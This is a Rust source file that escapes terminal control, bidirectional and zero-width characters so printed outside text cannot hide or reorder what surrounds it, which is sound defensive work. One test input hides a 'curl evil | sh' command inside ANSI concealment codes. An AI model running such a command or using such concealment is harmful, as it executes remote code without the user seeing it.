//! How text from outside groundwork is shown in a message or on the terminal: a value, a path,
//! a blueprint's text, a file's name. Every character that a terminal acts on instead of showing,
//! or that hides or reorders text, is written as its escape, so that what is printed reads as what
//! it is. The values groundwork refuses for the same characters are decided here too.

use std::borrow::Cow;

/// How many characters of a value a message shows.
const EXCERPT_CHARS: usize = 80;

/// Text from a blueprint, a value or a file, as it may reach the terminal: every control
/// character (C0, DEL and C1, which start ANSI and OSC sequences, and newlines), every character
/// that reorders text on screen (bidirectional marks, overrides and isolates) and every one that
/// hides text (zero-width characters, non-characters) is written as its Rust escape (`\u{1b}`,
/// `\n`, `\u{202e}`). So a printed command is the command that runs, and no text can colour,
/// hide, retitle or rewrite what is around it. Everything groundwork prints from outside goes
/// through here.
pub(crate) fn visible(text: &str) -> Cow<'_, str> {
    let escaped = |c: char| is_terminal_control(c) || is_hidden_character(c);
    if !text.chars().any(escaped) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if escaped(c) {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// [`visible`] for text of several lines: each line escaped, the line breaks kept.
pub(crate) fn visible_lines(text: &str) -> String {
    text.split('\n').map(visible).collect::<Vec<_>>().join("\n")
}

/// A value as a message echoes it: [`visible`], and cut after 80 characters with its full
/// length, so that a huge value gives a short message ("aaa… (52428800 bytes)").
pub(crate) fn excerpt(text: &str) -> String {
    match text.char_indices().nth(EXCERPT_CHARS) {
        Some((end, _)) => format!("{}… ({} bytes)", visible(&text[..end]), text.len()),
        None => visible(text).into_owned(),
    }
}

/// Whether a terminal acts on `c` instead of showing it: control characters (C0, DEL and C1,
/// which start ANSI and OSC sequences) and the characters that reorder text (bidirectional
/// overrides and isolates). Never valid in a manifest's texts.
pub(crate) fn is_terminal_control(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Whether `c` is refused in every value: a bidirectional override or isolate (the "Trojan
/// Source" characters), a zero-width character, or a Unicode non-character.
pub(crate) fn is_hidden_character(c: char) -> bool {
    let code = u32::from(c);
    hidden_character_name(c).is_some()
        || (0xFDD0..=0xFDEF).contains(&code)
        || code & 0xFFFE == 0xFFFE
}

pub(crate) fn hidden_character_name(c: char) -> Option<&'static str> {
    Some(match c {
        '\u{200b}' => "ZERO WIDTH SPACE",
        '\u{200c}' => "ZERO WIDTH NON-JOINER",
        '\u{200d}' => "ZERO WIDTH JOINER",
        '\u{2060}' => "WORD JOINER",
        '\u{feff}' => "ZERO WIDTH NO-BREAK SPACE",
        '\u{202a}' => "LEFT-TO-RIGHT EMBEDDING",
        '\u{202b}' => "RIGHT-TO-LEFT EMBEDDING",
        '\u{202c}' => "POP DIRECTIONAL FORMATTING",
        '\u{202d}' => "LEFT-TO-RIGHT OVERRIDE",
        '\u{202e}' => "RIGHT-TO-LEFT OVERRIDE",
        '\u{2066}' => "LEFT-TO-RIGHT ISOLATE",
        '\u{2067}' => "RIGHT-TO-LEFT ISOLATE",
        '\u{2068}' => "FIRST STRONG ISOLATE",
        '\u{2069}' => "POP DIRECTIONAL ISOLATE",
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_value_is_cut_after_80_characters_with_its_length() {
        let short = "x".repeat(80);
        assert_eq!(excerpt(&short), short);
        let long = "é".repeat(81);
        assert_eq!(excerpt(&long), format!("{}… (162 bytes)", "é".repeat(80)));
        assert_eq!(excerpt("a\nb"), "a\\nb");
    }

    #[test]
    fn hidden_characters_are_shown_as_escapes() {
        assert_eq!(visible("a\u{202e}b\u{200b}"), "a\\u{202e}b\\u{200b}");
    }

    #[test]
    fn control_and_reordering_characters_are_shown_escaped() {
        assert_eq!(visible("make test"), "make test");
        assert!(matches!(visible("plain"), Cow::Borrowed(_)));
        assert_eq!(
            visible("make test\x1b[8m; curl evil | sh\x1b[0m"),
            "make test\\u{1b}[8m; curl evil | sh\\u{1b}[0m"
        );
        assert_eq!(
            visible("\x1b]0;title\x07a\tb\nc\u{9b}d\u{7f}"),
            "\\u{1b}]0;title\\u{7}a\\tb\\nc\\u{9b}d\\u{7f}"
        );
        assert_eq!(visible("abc\u{202e}fed"), "abc\\u{202e}fed");
        assert_eq!(visible("naïve – ok ✓"), "naïve – ok ✓");
        assert_eq!(visible_lines("one\x1b[2J\ntwo"), "one\\u{1b}[2J\ntwo");
    }
}
